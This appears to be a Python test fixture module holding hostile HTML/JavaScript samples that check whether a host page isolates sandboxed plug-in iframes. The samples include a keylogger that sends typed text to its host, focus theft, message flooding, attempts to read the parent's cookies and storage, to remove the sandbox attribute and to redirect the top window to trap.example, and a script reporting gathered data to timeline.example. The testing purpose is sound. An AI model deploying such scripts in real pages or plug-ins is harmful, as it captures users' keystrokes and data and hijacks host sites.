"""Documents of plug-ins that try what they should not, or announce their height; each reports to
its own host."""

from tests.browser.recorder import Recorder

# Each in the plug-in's own document.
REPORTS_KEYS = """<!doctype html><input id=trap><script>
trap.oninput = () => fetch("/typed?" + trap.value);
fetch("/ready");
</script>"""


GOES_BACK = """<!doctype html><script>
let left = 20;
setInterval(() => { if (left-- > 0) history.go(-1); else if (left === -1) fetch("/done"); }, 50);
</script>"""


FLOODS = """<!doctype html><script>
setInterval(() => { for (let sent = 0; sent < 300; sent++) top.postMessage(sent, "*"); }, 10);
</script>"""


# It says so a little later, when the page has had the time to take it back, or when it is put away:
# on a busy machine the page sees the two calls of one attempt as two.
TAKES_IT_AGAIN = """<!doctype html><input id=trap><script>
const tell = () => navigator.sendBeacon("/tried");
setInterval(() => {
  focus();
  trap.focus();
  setTimeout(tell, 500);
}, 2000);
addEventListener("pagehide", tell);
trap.oninput = () => fetch("/typed?" + trap.value);
</script>"""


PARTS = ("my ", "password ", "123")


def has_tried(recorder: Recorder) -> bool:
    """Whether the plug-in has taken the keyboard once, a moment ago."""
    return any(request.path == "/tried" for request in recorder.requests)


# Everything that a plug-in would try, each attempt on its own; what it learns it reports to its own
# host.
HOSTILE = """<!doctype html><title>hostile</title><script>
const attempts = {
  document: () => parent.document.title,
  outer: () => top.document.body.innerHTML,
  cookie: () => top.document.cookie,
  storage: () => top.localStorage.length,
  wrapper: () => parent.document.querySelector("iframe").removeAttribute("sandbox"),
  navigation: () => { top.location = "https://trap.example/"; },
  replacement: () => { parent.location.replace("https://trap.example/"); },
  databases: () => top.indexedDB.open("theirs"),
};
// These fail without an exception: each host that they reach is on record.
for (const target of ["_top", "_parent"]) {
  const link = Object.assign(document.createElement("a"),
    { href: "https://trap.example/link", target });
  const form = Object.assign(document.createElement("form"),
    { action: "https://trap.example/form", target });
  document.documentElement.append(link, form);
  link.click();
  form.submit();
  window.open("https://trap.example/window", target);
}
const won = Object.keys(attempts).filter((name) => {
  try { attempts[name](); return true; } catch { return false; }
});
location.hash = "done";
fetch("/report?won=" + won.join("+") + "&origin=" + self.origin);
</script>"""


# The script of a company that has no page to frame, in our document.
OWN_SCRIPT = """
const attempts = {
  cookie: () => document.cookie,
  storage: () => localStorage.length,
  wrapper: () => parent.document.title,
  outer: () => top.document.title,
  navigation: () => { top.location = "https://trap.example/"; },
};
const won = Object.keys(attempts).filter((name) => {
  try { attempts[name](); return true; } catch { return false; }
});
const seen = [document.baseURI, location.href, document.referrer, self.origin];
const told = document.querySelector(".timeline").dataset.name;
const report = "/report?" + won.join("+") + "&" + seen.join("&") + "&" + told;
fetch("https://timeline.example" + report, { mode: "no-cors" });
fetch("https://trap.example/", { mode: "no-cors" });
"""


OWN_REPORT = "/report?&about:srcdoc&about:srcdoc&&null&cable"


ANNOUNCES = """<!doctype html><script>
parent.postMessage(JSON.stringify({ type: "MEASURE", details: { height: 730.4 } }), "*");
</script>"""


ANSWERS = """<!doctype html><script>
addEventListener("message", ({ data, source }) => {
  if (data.type === "setHeight") source.postMessage({ ...data, height: 256 }, "*");
});
</script>"""


# What must change nothing; one frame within the plug-in is of another company, one of the same.
# When both have sent theirs, one message follows that counts.
HOSTILE_HEIGHTS = """<!doctype html><iframe src="https://other.example/"></iframe>
<iframe srcdoc="<script>
  parent.parent.postMessage({ type: 'MEASURE', details: { height: 700 } }, '*');
  parent.postMessage('sent', '*');
</script>"></iframe><script>
const say = (height, type = "MEASURE") => parent.postMessage({ type, details: { height } }, "*");
const numbers = [-1, 0, 49, 3001, 1e9, NaN, Infinity];
for (const height of [...numbers, "700", [700], { valueOf: 700 }, null, true]) say(height);
say(700, "other");
for (const message of [700, "700", "{", "null", null, undefined, [], { type: "MEASURE" }])
  parent.postMessage(message, "*");
let frames = 2;
onmessage = () => --frames || say(444);
</script>"""
ALLOWED = "444"


# In our page: every height that a frame gets, one after the other.
NOTES_HEIGHTS = """(() => {
  window.heights = [];
  new MutationObserver((changes) => {
    for (const { target } of changes) heights.push(target.getAttribute("height"));
  }).observe(document, { subtree: true, attributes: true, attributeFilter: ["height"] });
})()"""


# The right frame and the right message; only its origin is not the declared one, since the document
# is sent with the policy NO_ORIGIN.
OF_NO_ORIGIN = """<!doctype html><script>
parent.postMessage({ type: "MEASURE", details: { height: 700 } }, "*");
setTimeout(() => fetch("/done?" + self.origin, { mode: "no-cors" }), 300);
</script>"""
NO_ORIGIN = "sandbox allow-scripts"


OTHER = """<!doctype html><script>
parent.parent.postMessage({ type: "MEASURE", details: { height: 700 } }, "*");
parent.postMessage("sent", "*");
</script>"""


# One a moment later than the other, so that they are no flood.
RESTLESS = """<!doctype html><script>
let height = 100;
const timer = setInterval(() => {
  parent.postMessage({ type: "MEASURE", details: { height: height++ } }, "*");
  if (height < 170) return;
  clearInterval(timer);
  setTimeout(() => fetch("/done"), 200);
}, 10);
</script>"""


DECLARED = "400"  # CSS pixels, as the provider of the tests has it
